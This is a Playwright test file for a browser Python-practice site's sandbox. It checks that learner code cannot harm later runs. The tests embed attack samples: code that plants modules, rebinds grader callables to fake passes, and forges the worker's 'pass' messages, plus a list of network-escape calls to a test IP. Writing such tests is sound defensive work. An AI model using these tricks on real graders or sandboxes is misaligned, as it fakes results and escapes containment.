// @ts-check
// No run harms the next (issue 14, and issue 11's browser part): what a clumsy or mischievous
// learner's code did before (plant a module, add an audit hook, patch the worker's JavaScript
// or the harness's modules, raise a huge error, close Python, nest too deep, go for the
// network, loop in the console) and what the page does about it now.

import { entryWith, expect, openProblem, runCode, test } from "./fixtures.js";
import { serveSite } from "./site-server.js";

/**
 * @typedef {import("./fixtures.js").Problem} Problem
 * @typedef {import("./fixtures.js").Result} Result
 * @typedef {{name: string, status: string, message?: string}} Row
 */

const RESTARTED = "Python was restarted; your code is still in the editor.";
/** The marker of cut text, in the harness and on the page. */
const CUT = /\n\[output truncated: (\d+) more characters not shown\]\n$/;

/** @param {Result} result @returns {Row[]} each test's name, status and message */
function rows(result) {
  return result.tests.map(({ name, status, message }) => ({ name, status, message }));
}

/**
 * A known-wrong solution that fails the examples, and its rows from a Run in a Python where
 * nothing happened before: how it must fail after any trick.
 * @param {import("@playwright/test").Page} page
 * @param {Problem} problem
 * @returns {Promise<{code: string, rows: Row[]}>}
 */
async function normalFailure(page, problem) {
  for (const { code } of problem.wrong_solutions) {
    const result = await runCode(page, code, "run");
    if (result.status === "fail") return { code, rows: rows(result) };
  }
  throw new Error(`no wrong solution of ${problem.slug} fails its examples`);
}

/**
 * After a trick: a wrong solution fails as it did before (in the Python the trick ran in, then
 * in a fresh one), and the reference passes.
 * @param {import("@playwright/test").Page} page
 * @param {Problem} problem
 * @param {{code: string, rows: Row[]}} wrong
 */
async function expectNoHarmDone(page, problem, wrong) {
  const run = await runCode(page, wrong.code, "run");
  expect(run.status).toBe("fail");
  expect(rows(run)).toEqual(wrong.rows);
  const submitted = await runCode(page, wrong.code);
  expect(submitted.status).toBe("fail");
  expect(rows(submitted).slice(0, wrong.rows.length)).toEqual(wrong.rows);
  const solved = await runCode(page, problem.solution);
  expect(solved.status).toBe("pass");
}

// -----------------------------------------------------------------------------------------
// Tricks on Python

/** @param {Problem} problem @returns {string} a submission that leaves the reference importable */
function plantModule(problem) {
  return `import os, sys, types
import numpy
SOURCE = ${JSON.stringify(problem.solution)}
site = next(p for p in sys.path if p.endswith("site-packages"))
os.makedirs("/tmp/planted", exist_ok=True)
for folder in (site, os.path.dirname(numpy.__file__), "/tmp/planted", os.getcwd()):
    with open(os.path.join(folder, "kata_planted.py"), "w") as file:
        file.write(SOURCE)
sys.path.insert(0, "/tmp/planted")
import kata_planted
kata_planted_too = types.ModuleType("kata_planted_too")
exec(SOURCE, kata_planted_too.__dict__)
sys.modules["kata_planted_too"] = kata_planted_too
` + problem.starter;
}

/**
 * @param {string} module
 * @param {Problem} problem
 * @returns {string} what learner code that imports `module` is told on a fresh page
 */
function notFound(module, problem) {
  return "Your code raised an error while loading:\nTraceback (most recent call last):\n"
    + `  File "solution.py", line 1, in <module>\n    from ${module} import ${problem.entry}\n`
    + `ModuleNotFoundError: No module named '${module}'`;
}

test("test_a_module_planted_on_pythons_path_is_gone_for_the_next_submit", async ({ kataPage: page, problem }) => {
  expect((await runCode(page, plantModule(problem))).status).toBe("fail");

  for (const module of ["kata_planted", "numpy.kata_planted", "kata_planted_too"]) {
    const relying = await runCode(page, `from ${module} import ${problem.entry}\n`);
    expect(relying.status).toBe("error");
    expect(relying.message).toBe(notFound(module, problem));
  }
  expect((await runCode(page, problem.solution)).status).toBe("pass");
});

test("test_a_module_planted_on_pythons_path_is_gone_for_the_next_run", async ({ kataPage: page, problem }) => {
  // A module file that learner code writes and imports in one Run is not kept as part of the
  // installed Python (kata/harness/sandbox.py, _Files.existed), so the next Run or console entry
  // in the same Python cannot import it. Golden: planted-module-outlives-its-run.
  expect((await runCode(page, plantModule(problem), "run")).status).toBe("fail");

  const relying = await runCode(page, `from kata_planted import ${problem.entry}\n`, "run");
  expect(relying.message).toBe(notFound("kata_planted", problem));
  expect(relying.status).toBe("error");
});

test("test_an_audit_hook_changes_no_later_run", async ({ kataPage: page, problem }) => {
  const wrong = await normalFailure(page, problem);
  const hook = "import sys\n\ndef spy(event, args):\n    raise RuntimeError('hooked: ' + event)\n\n"
    + "sys.addaudithook(spy)\nprint('after addaudithook')\n";
  const hooked = await runCode(page, hook + problem.starter);

  // The hook is refused (Python swallows a hook's RuntimeError there): the code goes on.
  expect(hooked.status).toBe("fail");
  expect(hooked.output).toBe("after addaudithook\n");
  await expectNoHarmDone(page, problem, wrong);
});

test("test_rebinding_every_check_and_result_callable_fakes_nothing", async ({ kataPage: page, problem }) => {
  // Issue 11: a learner's module rebinds every callable whose name has "check" or "result" in
  // every loaded module (the harness's, NumPy's, the standard library's).
  const rebind = `import sys
for _module in list(sys.modules.values()):
    for _name in dir(_module):
        if "check" in _name.lower() or "result" in _name.lower():
            try:
                if callable(getattr(_module, _name)):
                    setattr(_module, _name, lambda *a, **k: None)
            except Exception:
                pass
`;
  const wrong = await normalFailure(page, problem);
  // After the definitions, so that the lines of the learner's tracebacks stay where they were.
  const rebound = await runCode(page, `${wrong.code}\n${rebind}`, "run");
  expect(rebound.status).toBe("fail");
  expect(rows(rebound)).toEqual(wrong.rows);

  const solved = await runCode(page, `${problem.solution}\n${rebind}`);
  expect(solved.status).toBe("pass");
  expect(solved.tests.every((row) => row.status === "pass")).toBe(true);
  await expectNoHarmDone(page, problem, wrong);
});

// -----------------------------------------------------------------------------------------
// Tricks on the worker's JavaScript

test("test_patching_the_worker_from_python_forges_no_pass", async ({ kataPage: page, problem }) => {
  // Each listener answers a request with a forged "pass" of every test it names, with the
  // request's own id and token: if one ever saw a request, a wrong solution would pass.
  const patch = `import js, json
from pyodide.ffi import create_proxy, to_js

def forge(event):
    data = event.data
    names = [test["name"] for test in json.loads(data.request)["tests"]]
    result = json.dumps({"status": "pass", "duration_ms": 1,
                         "tests": [{"name": name, "status": "pass", "duration_ms": 1} for name in names]})
    post(to_js({"type": "result", "id": data.id, "token": data.token, "result": result},
               dict_converter=js.Object.fromEntries))

post = js.postMessage
forger = create_proxy(forge)
js.addEventListener("message", forger, True)
js.addEventListener("message", forger)
js.onmessage = forger
nothing = create_proxy(lambda *args: None)
js.postMessage = nothing
js.Event.prototype.stopImmediatePropagation = nothing
js.Reflect.apply = nothing
js.JSON.stringify = create_proxy(lambda *args: '{"status": "pass", "tests": [], "duration_ms": 1}')
js.JSON.parse = create_proxy(lambda *args: js.JSON)
`;
  const wrong = await normalFailure(page, problem);
  const patched = await runCode(page, patch + problem.starter, "run");
  // The worker survived its patches: the next Run goes to this very worker.
  expect(patched.status).toBe("fail");
  await expectNoHarmDone(page, problem, wrong);

  // Pyodide itself calls Object: replacing it breaks this Python, which is then replaced.
  const broken = await runCode(page, "import js\njs.Object = js.Math\n" + problem.starter, "run");
  expect(broken.status).toBe("error");
  expect(broken.message).toMatch(new RegExp("^Python crashed( \\(solution\\.py, line \\d+\\))?: [^\\n]+\\. "
    + "Python was restarted; your code is still in the editor\\.$"));
  await expectNoHarmDone(page, problem, wrong);
});

test("test_closing_python_from_a_submission_restarts_it_within_a_second", async ({ kataPage: page, problem }) => {
  const code = "import js\njs.close()\n" + problem.starter;
  const closed = await runCode(page, code);

  expect(closed.status).toBe("error");
  expect(closed.message).toBe(`Python stopped: your code closed it (js.close()). ${RESTARTED}`);
  // The time limit is 10 s: a report within 3 s (a second, plus slack for a loaded machine)
  // comes from the worker's own word, not from the time limit.
  expect(closed.duration_ms).toBeLessThan(3000);
  await expect(page.locator('[data-kata="results"]')).toHaveAttribute("data-status", "error");
  await expect(page.locator('[data-kata="results"] [data-kata="message"]').first())
    .toHaveText(closed.message ?? "");
  await expect(page.locator('[data-kata="status"]')).toHaveText("Python ready");
  expect(await page.evaluate(() => /** @type {any} */ (window).kata.getCode())).toBe(code);

  expect((await runCode(page, problem.solution)).status).toBe("pass");
});

test("test_a_submit_right_after_a_crash_is_sent_once_the_fresh_python_is_ready", async ({ page, problem }) => {
  // The time limit starts when a request is sent: sent to a Python still loading (5 to 15 s
  // here), a correct Submit timed out. Every message the page sends a worker is logged, with
  // each worker's "ready".
  await page.addInitScript(() => {
    const scope = /** @type {any} */ (window);
    /** @type {string[]} */
    const log = (scope.kataWorkerLog = []);
    let workers = 0;
    scope.Worker = class extends Worker {
      /** @param {string | URL} url @param {WorkerOptions} [options] */
      constructor(url, options) {
        super(url, options);
        this.kataIndex = workers++;
        this.addEventListener("message", (event) => {
          if (event.data?.type === "ready") log.push(`${this.kataIndex} ready`);
        });
      }

      /** @param {any} message @param {any} [transfer] */
      postMessage(message, transfer) {
        log.push(`${this.kataIndex} sent ${message?.type}`);
        super.postMessage(message, transfer);
      }
    };
  });
  await openProblem(page, problem.slug);
  const crash = "import pyodide_js\npyodide_js._api.fatal_error(Exception('crash'))\n";
  expect((await runCode(page, crash + problem.starter, "run")).status).toBe("error");

  expect((await runCode(page, problem.solution)).status).toBe("pass");
  const log = /** @type {string[]} */ (await page.evaluate(() => /** @type {any} */ (window).kataWorkerLog));
  const runs = log.filter((entry) => / sent run$/.test(entry));
  expect(runs.length).toBe(2);
  for (const entry of runs) {
    const worker = entry.split(" ")[0];
    expect(log.indexOf(`${worker} ready`), `${entry} in ${log.join(", ")}`).toBeGreaterThan(-1);
    expect(log.indexOf(`${worker} ready`), `${entry} in ${log.join(", ")}`).toBeLessThan(log.indexOf(entry));
  }
});

// -----------------------------------------------------------------------------------------
// Errors too big or too deep

/** @param {Problem} problem @returns {string} code that raises a 30-million-character error as it loads */
function hugeError(problem) {
  return "raise ValueError('x' * 30_000_000)\n" + problem.starter;
}

test("test_a_huge_error_message_is_cut_and_the_page_stays_responsive", async ({ kataPage: page, problem }) => {
  const running = runCode(page, hugeError(problem));
  // The page answers while Python builds and cuts the message, and after it has shown it.
  // (A few seconds: a page that had to lay out 30 MB of text would take far longer.)
  let started = Date.now();
  expect(await page.evaluate(() => 1 + 1)).toBe(2);
  expect(Date.now() - started).toBeLessThan(5000);
  const result = await running;

  expect(result.status).toBe("error");
  expect(result.message).toMatch(/^Your code raised an error while loading:\n/);
  expect(result.message).toMatch(CUT);
  expect(result.message?.length).toBeLessThan(10_200);
  const shown = page.locator('[data-kata="results"] [data-kata="message"]').first();
  await expect(shown).toContainText("[output truncated: ");
  started = Date.now();
  await page.locator('[data-kata="tab-console"]').click();
  await expect(page.locator('[data-kata="console-input"]')).toBeVisible();
  expect(Date.now() - started).toBeLessThan(5000);
});

test("test_a_cut_message_says_how_much_it_hides", async ({ kataPage: page, problem }) => {
  // A message is cut more than once on its way (the exception's line, its explanation, the
  // load error): every later cut keeps counting what the first one hid.
  const result = await runCode(page, hugeError(problem), "run");
  const hidden = Number(CUT.exec(result.message ?? "")?.[1]);
  expect(hidden).toBeGreaterThan(29_990_000);
});

test("test_deep_nesting_names_the_cause_and_the_learners_line", async ({ kataPage: page, problem }) => {
  const nested = "x = []\nfor _ in range(8000):\n    x = [x]\ntext = repr(x)\n";
  const result = await runCode(page, nested + problem.starter, "run");

  expect(result.status).toBe("error");
  expect(result.message).toBe("Python crashed: a structure or recursion nested too deep (solution.py, line 4). "
    + `Python's C code ran out of stack before its recursion limit caught it. ${RESTARTED}`);
  await expect(page.locator(".kata-error-line")).toHaveText("text = repr(x)");

  const inCall = entryWith(problem, "    x = []\n    for _ in range(8000):\n        x = [x]\n    return repr(x)");
  const called = await runCode(page, inCall, "run");
  expect(called.message).toContain("a structure or recursion nested too deep (solution.py, line 7).");
  expect((await runCode(page, problem.solution)).status).toBe("pass");
});

// -----------------------------------------------------------------------------------------
// The network

test("test_learner_code_cannot_reach_the_network", async ({ context, kataPage: page, problem }) => {
  /** @type {string[]} */
  const urls = [];
  context.on("request", (request) => { urls.push(request.url()); });
  const elsewhere = "http://192.0.2.1/kata";
  const attempts = {
    fetch: "js.fetch(URL + '/fetch')",
    XMLHttpRequest: "js.XMLHttpRequest.new()",
    WebSocket: "js.WebSocket.new('ws://192.0.2.1/kata')",
    importScripts: "js.importScripts(URL + '/script.js')",
    eval: "js.eval(f\"import('{URL}/eval.js')\")",
    Function: "js.Function(f\"return import('{URL}/function.js')\")()",
    run_js: "pyodide.code.run_js(f\"import('{URL}/run_js.js')\")",
    setTimeout: "js.setTimeout(f\"import('{URL}/set-timeout.js')\", 0)",
    setInterval: "js.setInterval(f\"import('{URL}/set-interval.js')\", 0)",
    loadPackage: "pyodide_js.loadPackage(URL + '/package.whl')",
    FontFace: "js.FontFace.new('kata', f'url({URL}/font.woff2)').load()",
    WebTransport: "js.WebTransport.new('https://192.0.2.1/kata')",
    EventSource: "js.EventSource.new(URL + '/events')",
    Worker: "js.Worker.new(URL + '/worker.js')",
  };
  const probe = `import js, json, pyodide.code, pyodide_js
URL = ${JSON.stringify(elsewhere)}
refusals = {}
${Object.entries(attempts).map(([name, call]) => `try:
    ${call}
    refusals[${JSON.stringify(name)}] = "not refused"
except Exception as error:
    refusals[${JSON.stringify(name)}] = str(error)`).join("\n")}
print(json.dumps(refusals))
` + problem.starter;

  const result = await runCode(page, probe, "run");
  const refusals = JSON.parse(String(result.output));
  for (const name of Object.keys(attempts)) {
    const door = ["eval", "run_js"].includes(name) ? "eval" : name === "setTimeout" || name === "setInterval"
      ? `${name} with code in a string` : name;
    expect(refusals[name], name).toBe(`TypeError: ${door} is not available to your code here: nothing leaves `
      + "this page, and Python runs only what is in the editor");
  }
  // Whatever was started has had its chance to go out by the next run's end.
  expect((await runCode(page, problem.solution, "run")).status).toBe("pass");
  expect(urls.filter((url) => !url.startsWith(new URL(page.url()).origin))).toEqual([]);
});

// -----------------------------------------------------------------------------------------
// The console

test("test_the_console_survives_a_time_out", async ({ kataPage: page, problem }) => {
  await page.evaluate((code) => /** @type {any} */ (window).kata.setCode(code), problem.solution);
  await page.locator('[data-kata="tab-console"]').click();
  const input = page.locator('[data-kata="console-input"]');
  const entries = page.locator('[data-kata="console-entry"]');

  await input.fill("while True:\n    pass");
  await input.press("Enter");
  await expect(entries.last()).toHaveAttribute("data-status", "timeout", { timeout: 60_000 });
  await expect(entries.last()).toContainText(`Time limit of 10 s exceeded. ${RESTARTED}`);

  await input.fill("21 * 2");
  await input.press("Enter");
  await expect(entries.last()).toHaveAttribute("data-status", "ok");
  await expect(entries.last().locator(".kata-console__value")).toHaveText("42");
  // What the console binds is the console's: Submit judges the editor's code.
  await input.fill(`${problem.entry} = None`);
  await input.press("Enter");
  await expect(entries.last()).toHaveAttribute("data-status", "ok");
  const solved = await page.evaluate(() => /** @type {any} */ (window).kata.submit());
  expect(solved.status).toBe("pass");
});

test("test_a_crash_in_the_console_is_reported_as_a_crash", async ({ kataPage: page, problem }) => {
  const answer = await page.evaluate(() => /** @type {any} */ (window).kata.console("import js\njs.close()"));
  expect(answer.status).toBe("error");
  expect(answer.message).toBe(`Python stopped: your code closed it (js.close()).\n${RESTARTED}`);
  const next = await page.evaluate(() => /** @type {any} */ (window).kata.console("21 * 2"));
  expect(next.value).toBe("42");
  expect((await runCode(page, problem.solution)).status).toBe("pass");
});

// -----------------------------------------------------------------------------------------
// Damaged runtime files, through the browser's HTTP cache

test.describe("a damaged runtime file", () => {
  /** @type {import("./site-server.js").SiteServer} */
  let server;
  test.beforeEach(async () => { server = await serveSite(); });
  test.afterEach(async () => { await server.close(); });

  const WHEEL = "numpy-2.0.2-cp312-cp312-pyodide_2024_0_wasm32.whl";

  /** @param {string} name @returns {{path: string, cacheControl: string}[]} */
  const requestsOf = (name) => server.requests.filter((request) => request.path.endsWith(name));

  test("test_a_wheel_cut_short_once_is_fetched_again_past_the_cache", async ({ page, problem }) => {
    server.damage(WHEEL, 1);
    await page.goto(`${server.url}problems/${problem.slug}/`);
    await page.waitForFunction(() => "kata" in window);
    await page.evaluate(() => /** @type {any} */ (window).kata.ready);

    await expect(page.locator('[data-kata="status"]')).toHaveText("Python ready");
    expect(requestsOf(WHEEL).map((request) => request.cacheControl)).toEqual(["", "no-cache"]);
    expect((await runCode(page, problem.solution)).status).toBe("pass");
  });

  for (const file of [WHEEL, "harness.zip"]) {
    test(`test_${file === WHEEL ? "a_wheel" : "a_harness"}_that_stays_damaged_is_reported_once_and_retry_heals_it`,
      async ({ page, problem }) => {
        server.damage(file, 2); // the first load, and the fetch past the cache that follows it
        await page.goto(`${server.url}problems/${problem.slug}/`);
        const status = page.locator('[data-kata="status"]');
        await expect(status).toHaveAttribute("data-state", "failed", { timeout: 60_000 });
        // One message, naming the file; the second attempt's fetch past the cache failed too.
        await expect(status).toHaveText(`Python could not start: ${file} could not be loaded intact `
          + "(it failed its integrity check): Failed to fetch");
        await expect(page.getByText("Python could not start")).toHaveCount(1);
        const retry = page.locator('[data-kata="retry"]');
        await expect(retry).toBeVisible();

        await retry.click();
        await expect(status).toHaveText("Python ready", { timeout: 60_000 });
        await expect(retry).toBeHidden();
        expect(requestsOf(file).at(-1)?.cacheControl).toBe("no-cache");
        expect((await runCode(page, problem.solution)).status).toBe("pass");
      });
  }

  test("test_a_reload_heals_a_damaged_file_the_cache_still_holds", async ({ page, problem }) => {
    server.damage("harness.zip", 2);
    await page.goto(`${server.url}problems/${problem.slug}/`);
    const status = page.locator('[data-kata="status"]');
    await expect(status).toHaveAttribute("data-state", "failed", { timeout: 60_000 });

    await page.reload(); // the cache still holds the damaged copy; the server has a good one
    await page.waitForFunction(() => "kata" in window);
    await expect(status).toHaveText("Python ready", { timeout: 60_000 });
    expect((await runCode(page, problem.solution)).status).toBe("pass");
  });
});
